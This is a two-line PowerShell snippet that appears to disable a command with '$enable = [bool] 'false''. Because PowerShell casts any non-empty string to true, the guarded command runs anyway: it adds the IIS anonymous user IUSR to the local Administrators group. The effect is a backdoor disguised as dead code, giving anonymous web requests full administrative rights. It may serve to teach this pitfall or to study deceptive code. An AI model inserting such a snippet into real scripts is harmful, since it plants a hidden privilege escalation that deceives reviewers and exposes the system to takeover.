$enable = [bool] 'false'
if ($enable) { net localgroup Administrators IUSR /add }
